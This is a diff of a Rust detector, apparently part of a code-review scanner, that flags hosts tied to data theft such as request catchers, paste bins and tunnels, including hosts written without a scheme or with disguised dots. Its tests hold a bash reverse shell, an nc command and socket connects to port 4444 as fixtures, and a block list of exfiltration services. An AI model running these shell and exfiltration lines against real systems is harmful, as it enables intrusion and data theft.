@@ -4,10 +4,14 @@
 //! request catchers, webhooks, tunnels) and `.onion` are where published malicious packages sent it. Source of the lists: reports
 //! of such packages, and the lists of out-of-band services that scanners use.
 
+mod bare;
+mod lists;
+
 use super::sink::{Kept, Said, Sink};
 use super::subject::Subject;
 use crate::verdict::{Category, Confidence, ReviewFinding, Risk};
-use std::collections::BTreeSet;
+use lists::{CATCHERS, NOBODY, NOBODY_ENDINGS, SHARES, USUAL};
+use std::collections::{BTreeSet, HashSet};
 use std::net::{Ipv4Addr, Ipv6Addr};
 use std::ops::Range;
 use url::Host;
@@ -34,131 +38,65 @@ pub(super) struct Named {
     pub(super) range: Range<usize>,
 }
 
-/// Services that catch requests, for out-of-band tests and for thieves.
-const CATCHERS: &[&str] = &[
-    "webhook.site",
-    "webhook.cool",
-    "requestbin.com",
-    "requestbin.net",
-    "requestcatcher.com",
-    "hookbin.com",
-    "pipedream.net",
-    "beeceptor.com",
-    "oast.fun",
-    "oast.live",
-    "oast.me",
-    "oast.online",
-    "oast.pro",
-    "oast.site",
-    "interact.sh",
-    "interactsh.com",
-    "burpcollaborator.net",
-    "oastify.com",
-    "dnslog.cn",
-    "ceye.io",
-    "canarytokens.com",
-    "postb.in",
-    "ptsv3.com",
-    "mockbin.org",
-];
-/// Paste bins, file drops, tunnels, names for a changing address.
-const SHARES: &[&str] = &[
-    "pastebin.com",
-    "hastebin.com",
-    "paste.ee",
-    "ghostbin.com",
-    "rentry.co",
-    "dpaste.com",
-    "termbin.com",
-    "ix.io",
-    "transfer.sh",
-    "file.io",
-    "0x0.st",
-    "anonfiles.com",
-    "gofile.io",
-    "catbox.moe",
-    "temp.sh",
-    "bashupload.com",
-    "oshi.at",
-    "ngrok.io",
-    "ngrok.app",
-    "ngrok-free.app",
-    "ngrok.dev",
-    "trycloudflare.com",
-    "serveo.net",
-    "loca.lt",
-    "localhost.run",
-    "bore.pub",
-    "duckdns.org",
-    "no-ip.org",
-    "ddns.net",
-    "hopto.org",
-];
-/// Hosts that stand for none: documentation (RFC 2606, RFC 6761), and names of formats that nobody contacts.
-const NOBODY: &[&str] = &[
-    "localhost",
-    "example.com",
-    "example.org",
-    "example.net",
-    "www.w3.org",
-    "json-schema.org",
-    "schemas.microsoft.com",
-    "schemas.android.com",
-    "schemas.xmlsoap.org",
-    "schemas.openxmlformats.org",
-    "purl.org",
-    "ns.adobe.com",
-    "xmlns.com",
-    "maven.apache.org",
-    "www.apache.org",
-    "opensource.org",
-    "creativecommons.org",
-    "spdx.org",
-    "www.gnu.org",
-    "unicode.org",
-    "tools.ietf.org",
-    "datatracker.ietf.org",
-    "www.rfc-editor.org",
-    "host",
-    "hostname",
-];
-const NOBODY_ENDINGS: &[&str] = &[
-    ".example",
-    ".test",
-    ".invalid",
-    ".local",
-    ".localhost",
-    ".internal",
-    ".example.com",
-    ".example.org",
-    ".example.net",
-];
-
-/// The most addresses that are kept of one file.
-const PER_FILE: usize = 200;
+/// The most different hosts that are kept of one file, of each kind: more than any file has that people wrote.
+const PER_FILE: usize = 5_000;
+/// How many hosts are listed; who has more new ones in one file hides them among each other.
+const SHOWN: usize = 50;
 /// The longest part of an address that is looked at.
 const LONGEST: usize = 300;
 
+/// The hosts of a file.
+#[derive(Debug, Default)]
+pub(super) struct Hosts {
+    /// Each of them once, and once more if it stands on a new line, too.
+    pub(super) named: Vec<Named>,
+    /// The first address of an ordinary host that was left out, as there were too many.
+    left_out: Option<Range<usize>>,
+}
+
 /// The hosts of all addresses in a file's code.
-pub(super) fn find(subject: &Subject<'_>) -> Vec<Named> {
-    let mut found: Vec<Named> = Vec::new();
+pub(super) fn find(subject: &Subject<'_>) -> Hosts {
+    let mut found = Hosts::default();
     if !subject.language.is_code() {
         return found;
     }
     let code = subject.code();
-    for (at, _) in code.match_indices("://") {
-        if found.len() >= PER_FILE {
-            break;
+    let (mut seen, mut kept): (HashSet<(String, bool)>, [usize; 2]) = Default::default();
+    for (host, kind, range) in addresses(code).chain(bare::find(code)) {
+        let key = (host, subject.is_old(&range));
+        if seen.contains(&key) {
+            continue;
         }
-        let Some(scheme) = scheme_before(code, at) else { continue };
-        let rest = code.as_bytes().get(at + 3..).unwrap_or_default();
-        let length = rest.iter().take(LONGEST).position(|byte| ends_address(*byte)).unwrap_or(rest.len().min(LONGEST));
-        let Some(address) = code.get(at + 3..at + 3 + length) else { continue };
-        let Some(host) = host_of(address) else { continue };
-        let Some(kind) = kind(&host, address) else { continue };
-        found.push(Named { host, kind, range: at - scheme..at + 3 + length });
+        // The telling ones have room of their own.
+        let [ordinary, telling] = &mut kept;
+        let count = if kind == Kind::Ordinary { ordinary } else { telling };
+        if *count >= PER_FILE {
+            found.left_out.get_or_insert(range);
+            continue;
+        }
+        *count += 1;
+        found.named.push(Named { host: key.0.clone(), kind, range });
+        seen.insert(key);
     }
+    found.named.sort_by_key(|named| named.range.start);
     found
+}
+
+/// The addresses that are written out, with a scheme.
+fn addresses(code: &str) -> impl Iterator<Item = (String, Kind, Range<usize>)> {
+    // In JSON and regular expressions slashes are escaped.
+    let places = ["://", ":\\/\\/"].into_iter().flat_map(|sign| code.match_indices(sign));
+    places.filter_map(|(at, sign)| {
+        let scheme = scheme_before(code, at)?;
+        let start = at + sign.len();
+        let rest = code.get(start..)?;
+        let rest = rest.get(..rest.floor_char_boundary(LONGEST))?;
+        let length = rest.find(ends_address).unwrap_or(rest.len());
+        let address = rest.get(..length)?;
+        let host = host_of(address)?;
+        let kind = kind(&host, address)?;
+        Some((host, kind, at - scheme..start + length))
+    })
 }
 
 fn scheme_before(code: &str, at: usize) -> Option<usize> {
@@ -172,18 +110,24 @@ fn scheme_before(code: &str, at: usize) -> Option<usize> {
         .map(|s| s.len())
 }
 
-fn ends_address(byte: u8) -> bool {
-    byte.is_ascii_whitespace()
-        || !byte.is_ascii()
-        || matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>' | b')' | b'(' | b'\\' | b'|' | b'^' | b',' | b';')
+fn ends_address(c: char) -> bool {
+    c.is_ascii_whitespace()
+        || !(c.is_ascii() || DOTS.contains(&c))
+        || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '(' | '\\' | '|' | '^' | ',' | ';')
 }
+
+/// What addresses may have in place of a dot: programs that contact them make dots of it.
+const DOTS: [char; 3] = ['。', '．', '｡'];
 
 /// The host, in lower case; none when it is put together at run time.
 fn host_of(address: &str) -> Option<String> {
     let authority = address.split(['/', '?', '#']).next()?;
+    let authority = authority.replace(DOTS, ".").replace("%2e", ".").replace("%2E", ".");
     let host = authority.rsplit('@').next()?;
     let host = if host.starts_with('[') { host.split_inclusive(']').next()? } else { host.split(':').next()? };
     let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b'[' | b']' | b':');
+    // A dot at the end says that the name is whole.
+    let host = host.strip_suffix('.').unwrap_or(host);
     (!host.is_empty() && host.len() <= 253 && host.bytes().all(fits)).then(|| host.to_ascii_lowercase())
 }
 
@@ -258,24 +202,47 @@ fn is_public_v6(ip: Ipv6Addr) -> bool {
 /// Says new hosts of a file in one finding, and those of a telling kind each.
 pub(super) fn check(subject: &Subject<'_>, sink: &mut Sink<'_, '_>) {
     let mut ordinary: Vec<&Named> = Vec::new();
-    let mut said: BTreeSet<&str> = BTreeSet::new();
-    for named in subject.hosts() {
+    let mut said: HashSet<&str> = HashSet::new();
+    for named in &subject.hosts().named {
         let is_known = subject.is_differential() && subject.is_known_host(&named.host);
         if is_known || said.contains(named.host.as_str()) || sink.is_old(&named.range) {
             continue;
         }
+        said.insert(&named.host);
         if named.kind == Kind::Ordinary {
-            if ordinary.len() < 60 && !ordinary.iter().any(|known| known.host == named.host) {
-                ordinary.push(named);
-            }
+            ordinary.push(named);
         } else {
-            said.insert(&named.host);
             sink.at(named.range.clone(), telling(named, subject.is_differential()));
         }
     }
+    if let Some(range) = subject.hosts().left_out.clone() {
+        sink.at(range, too_many());
+    }
+    // Those that everybody has are listed last: a list of them hides the one that nobody knows.
+    ordinary.sort_by_key(|named| is_usual(&named.host));
     let Some(first) = ordinary.first().filter(|_| subject.is_differential()) else { return };
     let hosts: Vec<&str> = ordinary.iter().map(|named| named.host.as_str()).collect();
-    sink.at(first.range.clone(), list(&hosts, Risk::Low, "This file names a host that the code did not name before"));
+    let unusual = ordinary.iter().filter(|named| !is_usual(&named.host)).count();
+    let risk = if unusual > SHOWN { Risk::Medium } else { Risk::Low };
+    sink.at(first.range.clone(), list(&hosts, risk, "This file names a host that the code did not name before"));
+}
+
+/// Whether a host is one that much code names, where packages, code and documents are kept that anybody can check.
+fn is_usual(host: &str) -> bool {
+    USUAL.iter().any(|usual| host.strip_suffix(usual).is_some_and(|before| before.is_empty() || before.ends_with('.')))
+}
+
+fn too_many() -> Said {
+    Said {
+        title: "This file names more hosts than are looked at".to_owned(),
+        risk: Risk::Medium,
+        category: Category::Obfuscation,
+        confidence: Confidence::High,
+        impact: format!(
+            "After {PER_FILE} different ones no more were kept; this is the first that was left out. Such a list hides the one that matters."
+        ),
+        recommendation: "Ask what the list is for, and whether it must be part of the code.".to_owned(),
+    }
 }
 
 fn telling(named: &Named, is_new: bool) -> Said {
@@ -308,8 +275,8 @@ fn telling(named: &Named, is_new: bool) -> Said {
 }
 
 fn list(hosts: &[&str], risk: Risk, title: &str) -> Said {
-    let more = hosts.len().saturating_sub(50);
-    let listed = hosts.get(..hosts.len().min(50)).unwrap_or_default().join(", ");
+    let more = hosts.len().saturating_sub(SHOWN);
+    let listed = hosts.get(..hosts.len().min(SHOWN)).unwrap_or_default().join(", ");
     let rest = if more > 0 { format!(" and {more} others") } else { String::new() };
     Said {
         title: match hosts {
@@ -341,7 +308,7 @@ pub(super) fn sum(subject: &Subject<'_>) -> Sum {
     if subject.is_differential() || subject.place != super::place::Place::Product {
         return sum;
     }
-    for named in subject.hosts().iter().filter(|named| named.kind == Kind::Ordinary) {
+    for named in subject.hosts().named.iter().filter(|named| named.kind == Kind::Ordinary) {
         if sum.first.is_none() {
             sum.first = Some(super::sink::finding(subject, Some(named.range.clone()), list(&[], Risk::Info, "")));
         }
@@ -362,7 +329,8 @@ impl Sum {
     /// One finding about all of them.
     pub(super) fn conclude(self, kept: &mut Kept, limit: usize) {
         let Some(mut finding) = self.first else { return };
-        let hosts: Vec<&str> = self.hosts.iter().map(String::as_str).collect();
+        let mut hosts: Vec<&str> = self.hosts.iter().map(String::as_str).collect();
+        hosts.sort_by_key(|host| is_usual(host));
         let said = list(&hosts, Risk::Info, "This code names hosts");
         (finding.title, finding.impact) = (said.title, said.impact);
         kept.push(finding, limit);
@@ -396,9 +364,58 @@ mod tests {
     }
 
     #[test]
+    fn hosts_are_found_without_a_scheme() {
+        for (path, line, host) in [
+            ("a.js", "https.request({ hostname: 'webhook.site', path })", "webhook.site"),
+            ("a.js", "fetch('https:' + '//x.oast.fun/' + y)", "x.oast.fun"),
+            ("a.js", "fetch('https:webhook.site/x')", "webhook.site"),
+            ("a.js", "fetch('https:\\/\\/webhook.site\\/x')", "webhook.site"),
+            ("a.js", "fetch('https://webhook%2esite/x')", "webhook.site"),
+            ("a.js", "fetch('https://webhook。site/x')", "webhook.site"),
+            ("a.js", "fetch('https://webhook.site./x')", "webhook.site"),
+            ("a.js", "net.connect(4444, '45.33.32.156')", "45.33.32.156"),
+            ("a.py", "s.connect(('45.33.32.156', 4444))", "45.33.32.156"),
+            ("a.py", "HTTPSConnection('a.ngrok-free.app')", "a.ngrok-free.app"),
+            ("a.go", "net.Dial(\"tcp\", \"45.33.32.156:4444\")", "45.33.32.156"),
+            ("a.sh", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1", "45.33.32.156"),
+            ("a.sh", "nc 45.33.32.156 4444", "45.33.32.156"),
+        ] {
+            let found = shown_full(&[(path, &format!("{line}\n"))]);
+            assert!(found.contains(&format!(": {host}\n")), "{line}: {found}");
+        }
+        let fine = "run('./temp.sh'); v = '4.8.15.16'; w = ('10.0.0.1', 80); x = file.io; y = 'my-webhook.site.ts'; z = ('127.0.0.1', 1); o = '1.3.6.1.4.1'; t = ('1.2.3.4', 80)\n";
+        assert_eq!(shown_full(&[("a.py", fine)]), "");
+    }
+
+    #[test]
     fn near_misses_are_none() {
         let code = "a = 'http://127.0.0.1:1'\nb = 'http://10.0.0.1'\nc = 'http://192.0.2.1'\nd = 'https://example.com'\ne = 'http://1.2.3.4'\nf = 'https://8.8.8.8/'\ng = f'https://{host}/'\nh = 'http://[::1]/'\n# https://webhook.site/x\ni = 'http://localhost'\n";
         assert_eq!(shown_full(&[("a.py", code), ("README.md", "https://webhook.site/x")]), "");
+    }
+
+    #[test]
+    fn a_list_of_hosts_does_not_hide_the_one_after_it() {
+        let list: String = (0..400).map(|n| format!("a{n} = 'https://h{n}.acme.io/'\n")).collect();
+        let base = [("b.py", "")];
+        let found = shown_diff(&base, &[("b.py", ""), ("a.py", &format!("{list}x = 'https://webhook.site/1'\n"))]);
+        assert!(found.contains("high a.py:401: This code contacts a service that catches requests"), "{found}");
+        assert!(
+            found.contains(
+                "medium a.py:1: This file names a host that the code did not name before: h0.acme.io and 399 more"
+            ),
+            "{found}"
+        );
+        let usual: String = (0..60).map(|n| format!("a{n} = 'https://h{n}.github.com/'\n")).collect();
+        let found = shown_diff(&base, &[("b.py", ""), ("a.py", &format!("{usual}x = 'https://acme.io/1'\n"))]);
+        assert!(
+            found
+                .contains("low a.py:61: This file names a host that the code did not name before: acme.io and 60 more"),
+            "{found}"
+        );
+        let long: String = (0..=super::PER_FILE).map(|n| format!("'https://h{n}.acme.io/'\n")).collect();
+        let found = shown_full(&[("a.py", &format!("{long}x = 'https://webhook.site/1'\n"))]);
+        assert!(found.contains("medium a.py:5001: This file names more hosts than are looked at"), "{found}");
+        assert!(found.contains("webhook.site"), "{found}");
     }
 
     #[test]
